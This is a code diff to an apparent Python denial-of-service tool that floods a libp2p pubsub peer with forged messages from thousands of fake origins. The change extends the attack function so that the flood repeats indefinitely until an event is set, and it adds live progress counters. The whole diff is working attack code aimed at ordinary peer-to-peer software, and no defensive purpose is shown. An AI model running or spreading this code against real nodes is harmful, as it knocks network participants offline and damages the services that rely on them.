@@ -72,10 +72,14 @@ def forged_pubsub_messages(key: SigningKey, topic: str, seqs: tuple[int, ...],
 
 async def attack(target: str, *, seconds: float, origins: int = 2000, gap: int = 4096,
                  first_seq: int = 1000, burst: float = 2.0, batch: int = 50,
-                 topic: str = STATUS_TOPIC) -> dict[str, float]:
+                 topic: str = STATUS_TOPIC, until: trio.Event | None = None,
+                 progress: dict[str, float] | None = None) -> dict[str, float]:
     """Bomb `target` (a multiaddr ending in /p2p/<peer id>) for at most `seconds`; returns
     counts: origins used, messages and RPCs written, write failures, seconds spent building
-    and sending. Raises DialError when the target cannot be reached."""
+    and sending. With `until`, the messages are written again and again at the same rate
+    (a flood that lasts) until that event is set, and the attack returns then; `progress`,
+    if given, holds the counts as they grow. Raises DialError when the target cannot be
+    reached."""
     from libp2p.peer.id import ID
     from libp2p.pubsub.pb import rpc_pb2
 
@@ -98,8 +102,10 @@ async def attack(target: str, *, seconds: float, origins: int = 2000, gap: int =
                 await trio.sleep(0.01)
         t0 = trio.current_time()
         batches = [msgs[i:i + batch] for i in range(0, len(msgs), batch)]
-        for i, part in enumerate(batches):
-            if trio.current_time() >= deadline:
+        rounds = 1 if until is None else 1 << 30
+        for i in range(len(batches) * rounds):
+            part = batches[i % len(batches)]
+            if trio.current_time() >= deadline or (until is not None and until.is_set()):
                 break
             stream = pubsub.peers.get(victim)
             if stream is None or not await pubsub.write_msg(
@@ -108,10 +114,14 @@ async def attack(target: str, *, seconds: float, origins: int = 2000, gap: int =
             else:
                 sent += len(part)
                 rpcs += 1
+            if progress is not None:
+                progress.update(messages_sent=float(sent), rpcs=float(rpcs),
+                                messages_failed=float(failed))
             # spread the batches evenly over `burst` seconds
             await trio.sleep_until(t0 + burst * (i + 1) / len(batches))
         sending = trio.current_time() - t0
-        await trio.sleep_until(deadline)   # stay connected: the victim pulls from us
+        with trio.move_on_at(deadline):    # stay connected: the victim pulls from us
+            await (until.wait() if until is not None else trio.sleep_forever())
     return {"origins": float(origins), "messages_sent": float(sent), "rpcs": float(rpcs),
             "messages_failed": float(failed), "build_s": round(built, 3),
             "send_s": round(sending, 3)}
